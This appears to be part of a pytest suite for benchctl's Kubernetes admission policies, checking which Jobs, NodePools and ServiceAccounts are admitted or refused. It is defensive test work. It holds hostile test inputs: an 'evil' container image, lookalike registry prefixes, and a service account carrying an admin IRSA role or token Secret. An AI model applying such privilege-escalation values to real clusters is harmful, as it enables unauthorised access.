    assert rules == {"[volumes]", "[mounts] "}, rules


def test_the_fake_sees_what_the_api_server_defaults_before_admission() -> None:
    """The allow-lists admit the fields Kubernetes defaults into every pod template before validating admission
    runs (a fake that skipped defaulting would pass an allow-list that refuses every Job on a real cluster)."""
    seen = defaulted(_runner_job())
    assert seen is not None
    pod = seen["spec"]["template"]["spec"]
    assert {"dnsPolicy", "restartPolicy", "schedulerName", "terminationGracePeriodSeconds"} <= set(pod)
    assert {"imagePullPolicy", "terminationMessagePath", "terminationMessagePolicy"} <= set(pod["containers"][0])
    assert seen["spec"]["template"]["metadata"]["labels"]["batch.kubernetes.io/job-name"] == seen["metadata"]["name"]
    assert _admit(_runner_job(), groups=(LOAD,)) == []


def test_privileged_prefill_and_decode_workers_and_the_campaigns_or_a_listed_service_account_are_admitted() -> None:
    dgd = _dgd_efa()
    assert _pod(dgd, "prefill")["containers"][0]["securityContext"]["privileged"] is True
    assert _pod(dgd, "decode")["containers"][0]["securityContext"]["privileged"] is True
    assert _admit(dgd) == []
    # the runner's own campaign's service account (named after the campaign id, its label), from Load
    job = _runner_job()
    assert _admit(_set(None, serviceAccountName=job["metadata"]["labels"]["benchctl.io/campaign"])(job),
                  groups=(LOAD,)) == []
    # a deployment's listed one (none by default: every runner has its campaign's own)
    listed = Admission(list(yaml.safe_load_all(ADMISSION_FILE.read_text())), [admission_params(
        allow_list_from_ceilings(ceilings.default(), service_accounts=("team-runner",),
                                 load_image_registry=LOAD_IMAGE.split("/")[0] + "/"))])
    assert _admit(_set(None, serviceAccountName="team-runner")(_runner_job()), adm=listed, groups=(LOAD,)) == []
    refused = _admit(_set(None, serviceAccountName="team-runner")(_runner_job()), groups=(LOAD,))
    assert [m.removeprefix(WORKLOADS)[:10] for m in refused] == ["[accounts]"], refused
    # a securityContext is held to exactly what benchctl renders: one a writer "tightened" is another pod
    tight = {"allowPrivilegeEscalation": False, "capabilities": {"drop": ["ALL"]}, "runAsNonRoot": True,
             "runAsUser": 1000, "seccompProfile": {"type": "RuntimeDefault"}, "readOnlyRootFilesystem": True}
    for obj, group in ((_security(None, tight)(_runner_job()), LOAD), (_security("frontend", tight)(_dgd_agg()), SERVING)):
        assert [m.removeprefix(WORKLOADS)[:10] for m in _admit(obj, groups=(group,))] == ["[security]"]


def test_requests_of_other_users_are_not_this_policys_business() -> None:
    hostile = _image(_dgd_efa(), "docker.io/evil/root:1")
    assert _admit(hostile, groups=("system:masters", "team-a")) == []  # a cluster admin: not bound
    for group in FUNCTION_GROUPS.values():  # every function's group is
        refused = _admit(hostile, groups=(group, "system:authenticated"))
        assert any(m.startswith(WORKLOADS + "[images] ") for m in refused), (group, refused)


def test_without_its_parameters_every_request_is_refused() -> None:
    bare = Admission(POLICIES, [])
    refused = _admit(_runner_job(), adm=bare)
    assert len(refused) == 1 and "no params found" in refused[0]


def test_an_allow_list_without_the_load_image_registry_refuses_the_runner_jobs() -> None:
    without = Admission(POLICIES, [admission_params(DEFAULT_ALLOW_LIST)])
    job = _runner_job()
    assert LOAD_IMAGE in str(job)
    assert [m.removeprefix(WORKLOADS)[:8] for m in _admit(job, adm=without, groups=(LOAD,))] == ["[images]"]


def test_an_allow_list_names_what_is_wrong_with_it() -> None:
    with pytest.raises(ValueError, match=r"image prefix 'nvcr.io/nvidia': must end in '/'.*instance type 'x9.huge'"):
        AdmissionAllowList(image_prefixes=("nvcr.io/nvidia",), instance_types=("x9.huge",), service_accounts=("a",))
    c = dataclasses.replace(ceilings.default(), instance_types={"p5.48xlarge": 98.32}, max_nodes_per_pool=2)
    allow = allow_list_from_ceilings(c, load_image_registry="1.dkr.ecr.us-east-1.amazonaws.com/")
    data = admission_params(allow)["data"]
    assert data["instanceTypes"] == "p5.48xlarge" and data["maxGpus"] == "16" and data["maxCpu"] == "384"
    assert data["imagePrefixes"].endswith(" 1.dkr.ecr.us-east-1.amazonaws.com/")


# ----------------------------------------------------------------------------- NodePools


def _np_set(path: tuple[str, ...], value: Any) -> Callable[[JSON], JSON]:
    def change(obj: JSON) -> JSON:
        target = obj
        for k in path[:-1]:
            target = target[k]
        target[path[-1]] = value
        return obj
    return change


def _requirements(extra: list[JSON] | None = None, types: list[str] | None = None) -> Callable[[JSON], JSON]:
    def change(obj: JSON) -> JSON:
        reqs = obj["spec"]["template"]["spec"]["requirements"]
        if types is not None:
            for r in reqs:
                if r["key"] == "node.kubernetes.io/instance-type":
                    r["values"] = types
        reqs += extra or []
        return obj
    return change


def _drop_type_requirement(obj: JSON) -> JSON:
    spec = obj["spec"]["template"]["spec"]
    spec["requirements"] = [r for r in spec["requirements"] if r["key"] != "node.kubernetes.io/instance-type"]
    return obj


NP_REFUSED: list[tuple[str, Callable[[JSON], JSON], str]] = [
    ("no label", _np_set(("metadata", "labels"), {}), "[labelled]"),
    ("another team's label", _np_set(("metadata", "labels"), {LABEL: "team-a"}), "[labelled]"),
    ("a type not allowed", _requirements(types=["p4d.24xlarge", "u-24tb1.metal"]), "[types]"),
    ("a second requirement on the type", _requirements(extra=[{"key": "node.kubernetes.io/instance-type",
                                                              "operator": "Exists"}]), "[types]"),
    ("no type requirement", _drop_type_requirement, "[types]"),
    ("no cpu limit", lambda o: (o["spec"]["limits"].pop("cpu"), o)[1], "[limits]"),
    ("no limits", lambda o: (o["spec"].pop("limits"), o)[1], "[limits]"),
    ("cpu past the ceiling", _np_set(("spec", "limits", "cpu"), "1537"), "[limits]"),
    ("memory past the ceiling", _np_set(("spec", "limits", "memory"), "17Ti"), "[limits]"),
    ("GPUs past the ceiling", _np_set(("spec", "limits", "nvidia.com/gpu"), 512), "[limits]"),
    ("a weight over other NodePools", _np_set(("spec", "weight"), 100), "[isolation]"),
    ("no GPU taint", _np_set(("spec", "template", "spec", "taints"), []), "[isolation]"),
    ("a taint another pod tolerates", _np_set(("spec", "template", "spec", "taints"), [
        {"key": "team-a", "effect": "NoSchedule"}]), "[isolation]"),
    ("another NodeClass", _np_set(("spec", "template", "spec", "nodeClassRef", "name"), "admin-class"),
     "[class]"),
    ("nodes kept for a year", _np_set(("spec", "disruption", "consolidateAfter"), "8760h"), "[nodepool]"),
    ("spot or any capacity", _requirements(extra=[{"key": "karpenter.sh/capacity-type", "operator": "In",
                                                  "values": ["spot"]}]), "[nodepool]"),
    ("nodes labelled for another team's pods", _np_set(("spec", "template", "metadata", "labels"),
                                                      {LABEL: "benchctl", "team": "a"}), "[nodepool]"),
    ("an expiry disrupting running workers", _np_set(("spec", "template", "spec", "expireAfter"), "1h"), "[nodepool]"),
]


@pytest.mark.parametrize(("case", "change", "rule"), NP_REFUSED, ids=[c[0] for c in NP_REFUSED])
def test_a_nodepool_breaking_a_rule_is_refused_naming_it(case: str, change: Callable[[JSON], JSON], rule: str) -> None:
    assert _admit(_nodepool(), groups=("benchctl-pools",)) == []
    refused = _admit(change(_nodepool()), groups=("benchctl-pools",))
    prefix = "ValidatingAdmissionPolicy 'benchctl-nodepools' with binding 'benchctl-nodepools' denied request: "
    assert any(m.startswith(prefix + rule + " ") for m in refused), refused
    assert all(m.startswith(prefix) for m in refused)


def test_limits_at_the_ceiling_are_admitted_in_any_quantity_form() -> None:
    at = _np_set(("spec", "limits"), {"cpu": "384000m", "memory": "4.5Ti", "nvidia.com/gpu": 32})(_nodepool())
    assert _admit(at, groups=("benchctl-pools",)) == []
    over = _np_set(("spec", "limits"), {"cpu": "384001m", "memory": "4.5Ti", "nvidia.com/gpu": 32})(_nodepool())
    assert "[limits] " in _admit(over, groups=("benchctl-pools",))[0]
    garbage = _np_set(("spec", "limits", "memory"), "lots")(_nodepool())  # not a quantity: an error, refused
    assert "resulted in error" in _admit(garbage, groups=("benchctl-pools",))[0]


def test_only_nodepools_we_labelled_may_be_replaced_or_deleted() -> None:
    ours, builtin = _nodepool(), _nodepool()
    builtin["metadata"] = {"name": "general-purpose", "labels": {}}  # Auto Mode's own, or another team's
    assert _admit(None, operation="DELETE", old=ours, groups=("benchctl-teardown",)) == []
    assert _admit(ours, operation="UPDATE", old=ours, groups=("benchctl-pools",)) == []
    refused = _admit(None, operation="DELETE", old=builtin, groups=("benchctl-sweep",))
    assert len(refused) == 1 and "[labelled] benchctl may change or delete only the NodePools it labelled" in refused[0]
    # relabelling it ours on the way in does not help: the stored object decides
    relabelled = copy.deepcopy(ours)
    relabelled["metadata"]["name"] = "general-purpose"
    refused = _admit(relabelled, operation="UPDATE", old=builtin, groups=("benchctl-pools",))
    assert len(refused) == 1 and "[labelled] benchctl may change or delete only the NodePools it labelled" in refused[0]


# ----------------------------------------------------------------------------- the evaluator itself


@pytest.mark.parametrize(("text", "value"), [("1Gi", 2**30), ("16384Gi", 16 * 2**40), ("1536", 1536),
                                             ("500m", 0.5), ("1.5k", 1500), ("1e3", 1000), ("2Ki", 2048)])
def test_quantities_parse_as_kubernetes_serializes_them(text: str, value: float) -> None:
    assert Quantity.parse(text).value == Decimal(str(value))


def test_an_expression_the_interpreter_cannot_compile_fails_at_once() -> None:
    broken = copy.deepcopy(POLICIES)
    broken[0]["spec"]["validations"][0]["expression"] = "object.metadata.labels.exists(k, "
    with pytest.raises(celpy.CELParseError):
        Admission(broken, [admission_params()])


# ----------------------------------------------------------------------------- over HTTP


def test_the_fake_api_server_refuses_a_hostile_write_with_422_and_stores_nothing() -> None:
    hostile = _image(_dgd_efa(), "docker.io/evil/root:1")
    with upstream_api() as api:
        kube = KubeClient(api.url, token=lambda: FUNCTION_TOKENS["Serving"])
        with pytest.raises(ApiError) as err:
            kube.create(hostile)
        assert err.value.status == 422 and "[images] " in str(err.value)
        assert api.stored("DynamoGraphDeployment", hostile["metadata"]["name"], NS) is None
        assert len(api.refused) == 1
        kube.create(_dgd_efa())  # what benchctl renders goes through
        assert api.stored("DynamoGraphDeployment", hostile["metadata"]["name"], NS) is not None


@pytest.mark.parametrize("image", [
    "nvcr.io/nvidia/ai-dynamo/vllm-runtime:0.6.1", "nvcr.io/nvidia/ai-dynamo/vllm-runtime@sha256:" + "a" * 64,
    "python:3.12-slim", "docker.io/library/python:3.12-slim", "library/python:3.12", "public.ecr.aws/aws-cli/aws-cli:2.27.0",
    "nvcr.io/nvidia/ai-dynamox/vllm-runtime:1", "nvcr.io/nvidia/vllm:1", "python/evil:1", "docker.io/python/evil:1",
    "evil.io/nvcr.io/nvidia/ai-dynamo/x:1", "pythonx:1", "public.ecr.aws/aws-cli/aws-cli-evil:1", "ubuntu:24.04",
])
def test_admission_and_the_ceilings_allow_the_same_images(image: str) -> None:
    """The admission policy's prefixes come from the deployment's ceilings (cdk.json): an image string the
    API server admits is one the spec check allows, and one it refuses the spec check refuses too."""
    allowed_by_ceilings = ceilings.image_problem("image", image, ceilings.resolve(None, {})) is None
    admitted = any(image.startswith(p) for p in DEFAULT_ALLOW_LIST.image_prefixes)
    assert admitted == allowed_by_ceilings, (image, admitted, allowed_by_ceilings)


# ------------------------------------------------------------------------------------------ service accounts


def _runner_account() -> JSON:
    from benchctl.aws.runner_identity import service_account_object

    return service_account_object(CID, NS)


SA_REFUSED: list[tuple[str, Callable[[JSON], JSON], str]] = [
    ("named after another campaign", lambda o: (o["metadata"].update(name="other-campaign-1"), o)[1],
     "[named]"),
    ("the namespace's default account re-made", lambda o: (o["metadata"].update(name="default"), o)[1],
     "[named]"),
    ("no campaign label", lambda o: (o["metadata"]["labels"].pop("benchctl.io/campaign"), o)[1],
     "[named]"),
    ("no managed-by label", lambda o: (o["metadata"]["labels"].pop(LABEL), o)[1], "[labelled]"),
    ("an IRSA role of the writer's choice", lambda o: (o["metadata"].update(
        annotations={"eks.amazonaws.com/role-arn": "arn:aws:iam::123456789012:role/admin"}), o)[1],
     "[fields]"),
    ("its API token mounted", lambda o: {**o, "automountServiceAccountToken": True},
     "[fields]"),
    ("a token Secret", lambda o: {**o, "secrets": [{"name": "dynamo-operator-token"}]},
     "[fields]"),
    ("an owner", lambda o: (o["metadata"].update(ownerReferences=[{"apiVersion": "v1", "kind": "Secret",
                                                                   "name": "x", "uid": "1"}]), o)[1], "[fields]"),
    ("an image pull Secret", lambda o: {**o, "imagePullSecrets": [{"name": "nvcr"}]},
     "[fields]"),
]


@pytest.mark.parametrize(("case", "change", "rule"), SA_REFUSED, ids=[c[0] for c in SA_REFUSED])
def test_a_service_account_other_than_a_campaigns_runner_account_is_refused(
        case: str, change: Callable[[JSON], JSON], rule: str) -> None:
    """Every ServiceAccount a function may create is a campaign's runner account as Plan makes it (named after
    its campaign, no token, no annotation): a stolen function identity cannot mint one that carries an IRSA
    role, a token Secret or another name."""
    plan = (FUNCTION_GROUPS["Plan"],)
    assert _admit(_runner_account(), groups=plan) == []
    refused = _admit(change(_runner_account()), groups=plan)
    assert any(f"denied request: {rule} " in m for m in refused), refused
    assert all("'benchctl-service-accounts'" in m for m in refused)
